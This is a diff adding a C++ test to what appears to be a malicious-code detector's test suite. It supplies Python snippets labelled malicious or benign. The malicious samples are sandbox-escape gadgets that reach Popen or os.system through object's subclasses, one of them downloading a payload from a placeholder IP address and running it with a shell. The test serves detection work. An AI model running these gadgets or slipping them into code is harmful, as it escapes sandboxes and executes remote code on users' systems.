@@ -136,5 +136,30 @@ TEST(MaliciousSpellings, WhatShellLinesPrint) {
   for (const auto& c : cases) check(c);
 }
 
+// A sandbox escape's gadget search: object's subclasses, reached from any
+// value, and a class picked from them called (Popen) or its module's
+// globals used (os._wrap_close.__init__.__globals__['system']). A plugin
+// registry over the code's own class's subclasses is ordinary.
+TEST(MaliciousSpellings, ObjectSubclassGadgets) {
+  const Case cases[] = {
+      {"Popen found among object's subclasses runs a download", B,
+       "import urllib.request\n"
+       "payload = urllib.request.urlopen('http://198.51.100.4/p').read().decode()\n"
+       "popen = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]\n"
+       "popen(['sh', '-c', payload])\n",
+       "EXEC-DECODED-PAYLOAD"},
+      {"os.system through _wrap_close's globals", B,
+       "for c in ''.__class__.__mro__[1].__subclasses__():\n"
+       "    if c.__name__ == '_wrap_close':\n"
+       "        c.__init__.__globals__['system']('id')\n",
+       "EXEC-DECODED-PAYLOAD"},
+      {"a plugin registry over a class's own subclasses", L,
+       "class Plugin:\n    pass\nclass Csv(Plugin):\n    name = 'csv'\n"
+       "for sub in Plugin.__subclasses__():\n    print(sub.name, sub())\n"},
+      {"object's subclasses only counted", L, "print(len(object.__subclasses__()))\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
